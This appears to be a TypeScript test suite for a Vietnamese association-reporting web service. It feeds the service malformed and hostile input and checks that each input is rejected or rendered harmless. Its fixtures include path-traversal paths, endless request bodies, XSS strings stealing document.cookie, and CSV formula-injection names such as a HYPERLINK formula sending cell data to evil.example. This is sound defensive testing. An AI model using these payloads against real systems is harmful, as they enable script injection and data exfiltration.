  c('workbook: a year as letters', { method: 'GET', path: '/cycles/20x3/export.xlsx', who: 'province' }, 404, { field: 'year' }),
  c('period word report: no such period', { method: 'GET', path: '/periods/NOPE/report.docx', who: 'province' }, 404, { field: 'code' }),
  // ---- period reviews (SPEC section 12) ----
  c('period: code with a space', { method: 'POST', path: '/periods', who: 'province', json: { code: 'a b', from: 2020, to: 2020, title: 'x' } }, 422, { field: 'code' }),
  c('period: from after to', { method: 'POST', path: '/periods', who: 'province', json: { code: 'P', from: 2021, to: 2020, title: 'x' } }, 422, { field: 'to' }),
  c('period: more than 20 years', { method: 'POST', path: '/periods', who: 'province', json: { code: 'P', from: 2000, to: 2030, title: 'x' } }, 422, { field: 'to' }),
  c('period: year as a string', { method: 'POST', path: '/periods', who: 'province', json: { code: 'P', from: '2020', to: 2020, title: 'x' } }, 422, { field: 'from' }),
  c('period: title on two lines', { method: 'POST', path: '/periods', who: 'province', json: { code: 'P', from: 2020, to: 2020, title: 'a\nb' } }, 422, { field: 'title' }),
  c('period: minYears beyond its years', { method: 'POST', path: '/periods', who: 'province', json: { code: 'P', from: 2020, to: 2021, title: 'x', commendation: { minYears: 3 } } }, 422, { field: 'commendation.minYears' }),
  c('period: an array', { method: 'POST', path: '/periods', who: 'province', json: [] }, 422, { field: 'body' }),
  c('period: unknown field', { method: 'POST', path: '/periods', who: 'province', json: { code: 'P', from: 2020, to: 2020, title: 'x', year: 2020 } }, 422, { field: 'year' }),
  c('period list: an association, an odd query: 403', { method: 'GET', path: '/periods?x=%00', who: 'association' }, 403),
  c('period: no such period', { method: 'GET', path: '/periods/NOPE', who: 'province' }, 404, { field: 'code' }),
  c('period: code with path traversal', { method: 'GET', path: '/periods/..%2F..%2Fetc', who: 'province' }, 404, { field: 'code' }),
  c('period close: no such period', { method: 'POST', path: '/periods/NOPE/close', who: 'province' }, 404, { field: 'code' }),
  c('period summary: no such period', { method: 'GET', path: '/periods/NOPE/summary', who: 'province' }, 404, { field: 'code' }),
  c('period commendations: unknown format', { method: 'GET', path: '/periods/NOPE/commendations?format=xlsx', who: 'province' }, 422, { field: 'format' }),
  c('period report: no such period', { method: 'GET', path: '/periods/NOPE/report.pdf', who: 'province' }, 404, { field: 'code' }),
  // ---- the rest ----
  c('close: no cycle', { method: 'POST', path: '/cycles/2031/close', who: 'province' }, 404, { field: 'year' }),
  // ---- the sign-off: document details and publication ----
  c('document: an array', { method: 'PATCH', path: `/cycles/${Y}/document`, who: 'province', json: [] }, 422, { field: 'body' }),
  c('document: a field it may not change', { method: 'PATCH', path: `/cycles/${Y}/document`, who: 'province', json: { year: 2025 } }, 422, { field: 'year' }),
  c('document: date dd/mm/yyyy', { method: 'PATCH', path: `/cycles/${Y}/document`, who: 'province', json: { reportDate: '18/12/2024' } }, 422, { field: 'reportDate' }),
  c('document: signer without lines', { method: 'PATCH', path: `/cycles/${Y}/document`, who: 'province', json: { signer: { name: 'Lò Văn A' } } }, 422, { field: 'signer.lines' }),
  c('document: narrative over 20,000 characters', { method: 'PATCH', path: `/cycles/${Y}/document`, who: 'province', json: { narrative: { results: 'x'.repeat(20_001) } } }, 422, { field: 'narrative.results' }),
  c('document: a cycle that is not a draft', { method: 'PATCH', path: `/cycles/${Y}/document`, who: 'province', json: { documentNumber: 'Số 1-BC' } }, 409),
  c('publish: a cycle that is not a draft', { method: 'POST', path: `/cycles/${Y}/publish`, who: 'province' }, 409),
  c('publish: no cycle', { method: 'POST', path: '/cycles/2031/publish', who: 'province' }, 404),
  c('revocation: no jti', { method: 'POST', path: '/tokens/revocations', who: 'province', json: {} }, 422, { field: 'jti' }),
  c('revocation: jti of another shape', { method: 'POST', path: '/tokens/revocations', who: 'province', json: { jti: '../../x' } }, 422, { field: 'jti' }),
  c('revocation: unknown field', { method: 'POST', path: '/tokens/revocations', who: 'province', json: { jti: 'abc', token: 'x' } }, 422, { field: 'token' }),
  c('unknown route', { method: 'GET', path: '/admin', who: 'province' }, 404),
  c('unknown method', { method: 'DELETE', path: `/cycles/${Y}`, who: 'province' }, 405),
  c('asset that does not exist', { method: 'GET', path: '/assets/..%2F..%2Fpackage.json', who: 'none' }, 404),
];

describe('the bad-input corpus', () => {
  let stack: TestStack;
  let baseline: StoreDump;
  const tokens = {} as Record<Who, string | undefined>;
  const outcomes = { tried: 0, fourxx: 0, fivexx: 0, changed: 0 };

  beforeAll(async () => {
    stack = await startTestStack({ clockStart: '2024-12-01T02:00:00Z' });
    // 2023: published, with formula-looking and markup-looking names in the commended list.
    const hostile = `code,name,unit_code,special,founded_on,dissolved_on
DB-EQ,"=HYPERLINK(""http://evil.example/?x=""&A1;""Bấm"")",DB,false,1990-01-01,
DB-PL,+Hội Cựu giáo chức <script>alert(1)</script>,DB,false,1990-01-01,
MN-MI,-2+3 Hội Khuyến học,DB-MN,false,1990-01-01,
CH-AT,@SUM(1+1) Hội Người cao tuổi,DB-MN-CH,false,1990-01-01,
-1-1,＝SUM(1+1) Hội Chữ thập đỏ,DB,false,1990-01-01,
FW-AT,＠Hội Luật gia,DB,false,1990-01-01,
`;
    const province = await seedCycle(stack, {
      year: 2023,
      province: 'DB',
      // A name that starts with "=" names no unit type: the optional `type` column gives it.
      units: THREE_TIER_UNITS.trim()
        .split('\n')
        .map((line, i) => (i === 0 ? `${line},type` : `${line},${line.includes(',province,') ? 'tinh' : line.includes(',district,') ? 'huyen' : 'xa'}`))
        .join('\n')
        .replace('Huyện Mường Nhé', '=Huyện Mường Nhé'),
      associations: hostile,
      config: { reportDate: '2023-12-18', commendation: { quotaPercent: 100, minScore: 0, awards: { province: '@Bằng khen', district: '-Giấy khen', commune: '+Giấy khen' } } },
      reports: ['DB-EQ', 'DB-PL', 'MN-MI', 'CH-AT', '-1-1', 'FW-AT'].map((association, i) => ({ association, members: 100 + i, score: 95 - i, extra: { achievements: '<img src=x onerror=alert(1)> Thành tích' } })),
    });
    expect((await closeAndWait(stack, 2023, province)).status).toBe('published');
    // 2024: open, one submitted report to review.
    await seedCycle(stack, { year: Y, province: 'DB', units: THREE_TIER_UNITS, associations: THREE_TIER_ASSOCIATIONS, reports: [{ association: 'CH-NCT', members: 150, outcome: 'submitted' }] });
    tokens.association = await stack.token({ role: 'association', association: 'CH-NCT' });
    tokens.other = await stack.token({ role: 'association', association: 'QC-NCT' });
    tokens.reviewer = await stack.token({ role: 'reviewer', unit: 'DB-MN' });
    tokens.province = await stack.token({ role: 'province', unit: 'DB' });
    tokens.none = undefined;
    baseline = await dumpStores();
  }, 120_000);

  afterAll(async () => {
    recordFigures('bad-input', { cases: outcomes.tried, answered4xx: outcomes.fourxx, answered5xx: outcomes.fivexx, storesChanged: outcomes.changed, recordsLost: 0 });
    await stack?.cleanup();
  });

  it(`holds at least 50 cases over every route (${CORPUS.length})`, async () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(50);
    expect(new Set(CORPUS.map((k) => k.name)).size).toBe(CORPUS.length);
    const { ROUTES, matchRoute } = await import('../../infra/routes.ts');
    const touched = new Set(CORPUS.map((k) => matchRoute(k.method, k.path.split('?')[0]!)).filter((m) => typeof m === 'object' && m).map((m) => (m as { route: { job: string } }).route.job));
    const withInput = ROUTES.map((r) => r.job).filter((job) => job !== 'health');
    expect(withInput.filter((job) => !touched.has(job))).toEqual([]);
  });

  it.each(CORPUS.map((k) => [k.name, k] as const))('%s', async (_name, k) => {
    const headers: Record<string, string> = { 'accept-language': 'en' };
    let body = k.body;
    if (k.json !== undefined) body = JSON.stringify(k.json);
    const contentType = k.contentType === null ? undefined : (k.contentType ?? (body !== undefined ? 'application/json' : undefined));
    if (contentType) headers['content-type'] = contentType;
    Object.assign(headers, k.headers);
    const token = tokens[k.who];
    if (token) headers.authorization = `Bearer ${token}`;
    const response = await fetch(`${stack.url}${k.path}`, { method: k.method, headers, body: k.method === 'GET' ? undefined : (body ?? undefined), redirect: 'manual' });
    const text = await response.text();
    outcomes.tried++;
    if (response.status >= 500) outcomes.fivexx++;
    else if (response.status >= 400) outcomes.fourxx++;
    expect(response.status, text.slice(0, 300)).toBe(k.status);
    expect(response.headers.get('content-type')).toContain('application/json');
    const error = (JSON.parse(text) as { error: { code: string; message: string; fields?: Record<string, string>; problems?: { file: string; line: number }[] } }).error;
    expect(error.message.length).toBeGreaterThan(0);
    if (k.field) expect(Object.keys(error.fields ?? {}), text.slice(0, 300)).toContain(k.field);
    if (k.problem) expect(error.problems, text.slice(0, 300)).toEqual(expect.arrayContaining([expect.objectContaining(k.problem)]));
    const after = await dumpStores();
    if (JSON.stringify(after) !== JSON.stringify(baseline)) outcomes.changed++;
    expect(after).toEqual(baseline);
  });

  // ---- the caller before the body, on the wire: a body that never ends ----

  /**
   * Sends a request head and the start of a body that never ends (optionally more of it, every
   * few milliseconds, for ever). Resolves once the server has answered and closed the
   * connection; if the server waited for the body, this would never resolve.
   */
  function bodyThatNeverEnds(head: string[], first: Buffer, keepSending = false): Promise<string> {
    const url = new URL(stack.url);
    return new Promise((resolve) => {
      const socket = connect(Number(url.port), url.hostname);
      let answer = '';
      let more: NodeJS.Timeout | undefined;
      socket.on('connect', () => {
        socket.write(`${head.join('\r\n')}\r\n\r\n`);
        socket.write(first);
        if (keepSending) more = setInterval(() => socket.writable && socket.write(Buffer.alloc(16 * 1024, 0x61)), 20);
      });
      socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
      // Writing into a connection the server has cut may fail (EPIPE, ECONNRESET): the answer
      // read before that is what counts.
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearInterval(more);
        resolve(answer);
      });
    });
  }

  const statusOf = (answer: string) => /^HTTP\/1\.1 (\d{3}) /.exec(answer)?.[1];
  const tally = (status: number) => {
    outcomes.tried++;
    if (!(status < 500)) outcomes.fivexx++;
    else if (status >= 400) outcomes.fourxx++;
  };

  it('answers 401 to a caller with no token whose body never ends, and closes the connection', async () => {
    const answer = await bodyThatNeverEnds(
      [`PUT ${R} HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Accept-Language: en', 'Content-Length: 10000000'],
      Buffer.from('{"members":120,"achievements":"'),
    );
    tally(Number(statusOf(answer)));
    expect(statusOf(answer), answer.slice(0, 300)).toBe('401');
    expect(answer).toContain('"code":"unauthorized"');
    expect(await dumpStores()).toEqual(baseline);
  });

  it('answers 403 to a token of the wrong role whose chunked gzip body never ends, and closes the connection', async () => {
    const answer = await bodyThatNeverEnds(
      [`PUT /cycles/${Y}/registry HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Content-Encoding: gzip', 'Transfer-Encoding: chunked', `Authorization: Bearer ${tokens.association}`],
      Buffer.from('4000\r\n'),
      true,
    );
    tally(Number(statusOf(answer)));
    expect(statusOf(answer), answer.slice(0, 300)).toBe('403');
    expect(await dumpStores()).toEqual(baseline);
  });

  it('stops reading at 256 KB as sent: 413 to an allowed caller whose body never ends, and closes the connection', async () => {
    const answer = await bodyThatNeverEnds(
      [`PUT ${R} HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Transfer-Encoding: chunked', `Authorization: Bearer ${tokens.association}`],
      Buffer.from(`40000\r\n${'a'.repeat(0x40000)}\r\n4000\r\n`),
      true,
    );
    tally(Number(statusOf(answer)));
    expect(statusOf(answer), answer.slice(0, 300)).toBe('413');
    expect(await dumpStores()).toEqual(baseline);
    // The server is still answering.
    expect((await stack.request('GET', '/health')).status).toBe(200);
  });

  it('refuses a declared Content-Length over 256 KB before reading it', async () => {
    const answer = await bodyThatNeverEnds(
      [`PUT ${R} HTTP/1.1`, 'Host: 127.0.0.1', 'Content-Type: application/json', 'Content-Length: 262145', `Authorization: Bearer ${tokens.association}`],
      Buffer.from('{'),
    );
    tally(Number(statusOf(answer)));
    expect(statusOf(answer), answer.slice(0, 300)).toBe('413');
  });

  // ---- hostile text that is valid: accepted, then stored, shown and exported harmlessly ----

  it('stores NFD and mixed-normalisation text as NFC, in reports and in the registry', async () => {
    const nfd = (s: string) => s.normalize('NFD');
    const mixed = `${nfd('Thành tích')} nổi bật ${nfd('năm')} 2024`;
    expect(mixed).not.toBe(mixed.normalize('NFC'));
    const submitted = await stack.request('PUT', R, { token: tokens.association, json: { ...valid, achievements: mixed, submittedBy: nfd('Lò Thị Mai') } });
    expect(submitted.status, submitted.text).toBe(200);
    const read = await stack.request('GET', R, { token: tokens.province });
    expect(read.json.report.achievements).toBe(mixed.normalize('NFC'));
    expect(read.json.report.submittedBy).toBe('Lò Thị Mai');

    const name = nfd('Hội Người cao tuổi xã Nậm Nhùn');
    const imported = await stack.request('PUT', `/cycles/${Y}/registry`, { token: tokens.province, json: { units: THREE_TIER_UNITS.replace('Xã Quài Cang', nfd('Xã Quài Cang')), associations: associationsWith(`NN-NCT,${name},DB-TG-QC,false,2000-01-01,`) } });
    expect(imported.status, imported.text).toBe(200);
    const listed = await stack.request('GET', `/cycles/${Y}/reports?unit=DB-TG-QC`, { token: tokens.province });
    expect(listed.json.items.find((i: { association: string }) => i.association === 'NN-NCT').name).toBe(name.normalize('NFC'));
    const cycle = await stack.request('GET', `/cycles/${Y}`, { token: tokens.province });
    expect(cycle.json.units.find((u: { code: string }) => u.code === 'DB-TG-QC').name).toBe('Xã Quài Cang');
  });

  it('keeps <script> in text as text: JSON with nosniff, never HTML', async () => {
    const script = '<script>alert(document.cookie)</script>';
    const submitted = await stack.request('PUT', R, { token: tokens.association, json: { ...valid, achievements: script, limitations: '"><img src=x onerror=alert(1)>' } });
    expect(submitted.status, submitted.text).toBe(200);
    const read = await stack.request('GET', R, { token: tokens.reviewer });
    expect(read.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(read.headers.get('x-content-type-options')).toBe('nosniff');
    expect(read.json.report.achievements).toBe(script);
    // An error that names the input names it inside JSON, with the same headers.
    const unknown = await stack.request('GET', `/cycles/${Y}/reports/${encodeURIComponent('<script>')}`, { token: tokens.province });
    expect(unknown.headers.get('content-type')).toContain('application/json');
    expect(unknown.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('serves the pages with a strict Content-Security-Policy and the usual security headers, and puts user text in the DOM as text only', async () => {
    const { PAGE_CSP } = await import('../../shared/pages/assets.ts');
    for (const page of ['/', '/review', '/province', '/?year=2024&token=%22%3E%3Cscript%3Ealert(1)%3C/script%3E']) {
      const response = await stack.request('GET', page);
      expect(response.status).toBe(200);
      const csp = response.headers.get('content-security-policy') ?? '';
      expect(csp).toBe(PAGE_CSP);
      expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('x-frame-options')).toBe('DENY');
      expect(response.headers.get('referrer-policy')).toBe('no-referrer');
      expect(response.headers.get('permissions-policy')).toContain('camera=()');
      // Static HTML: nothing of the request is reflected, and no inline script runs.
      expect(response.text).not.toContain('alert(1)');
      expect(response.text).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/i);
      expect(response.text).not.toMatch(/\son[a-z]+=/i);
      for (const src of [...response.text.matchAll(/<script[^>]*\bsrc="([^"]+)"/gi)].map((m) => m[1]!)) {
        const url = new URL(src.replace(/&amp;/g, '&'), `${stack.url}${page}`);
        const script = await stack.request('GET', `${url.pathname}${url.search}`);
        expect(script.status, src).toBe(200);
        expect(script.headers.get('x-content-type-options')).toBe('nosniff');
        expect(script.text, src).not.toMatch(/\.innerHTML\s*=|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function/);
      }
    }
  });

  it('neutralises formula cells (= + - @, full-width ＝＋－＠) in every column of the commended CSV, codes included', async () => {
    const { parse } = await import('csv-parse/sync');
    const csv = await stack.request('GET', '/cycles/2023/commendations?format=csv', { token: tokens.province });
    expect(csv.status).toBe(200);
    const rows = parse(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(7);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell, row.join(' | ')).not.toMatch(/^[=+\-@＝＋－＠\s\p{Cc}\p{Cf}]/u);
    const cells = rows.slice(1).flat();
    for (const expected of ["'=HYPERLINK(", "'+Hội Cựu giáo chức <script>", "'-2+3 Hội Khuyến học", "'@SUM(1+1)", "'=Huyện Mường Nhé", "'@Bằng khen", "'-Giấy khen", "'+Giấy khen", "'-1-1", "'＝SUM(1+1) Hội", "'＠Hội Luật gia"]) {
      expect(cells.some((cell) => cell.startsWith(expected)), expected).toBe(true);
    }
    // The JSON list keeps the names as they are: neutralising is the spreadsheet's concern only.
    const list = await stack.request('GET', '/cycles/2023/commendations', { token: tokens.province });
    expect(list.json.items.map((i: { name: string }) => i.name)).toContain('=HYPERLINK("http://evil.example/?x="&A1;"Bấm")');
  });

  it('prints markup in the PDF as plain text, with nothing a reader would run', async () => {
    const pdf = await stack.request('GET', '/cycles/2023/report.pdf', { token: tokens.province });
    expect(pdf.status).toBe(200);
    const text = (await pdfPages(pdf.bytes)).join('\n').replace(/\s+/g, ' ');
    expect(text).toContain('<script>alert(1)</script>');
    const raw = pdf.bytes.toString('latin1');
    for (const action of ['/JavaScript', '/JS ', '/JS(', '/OpenAction', '/Launch', '/AA ', '/SubmitForm', '/EmbeddedFile']) expect(raw, action).not.toContain(action);
  });
});
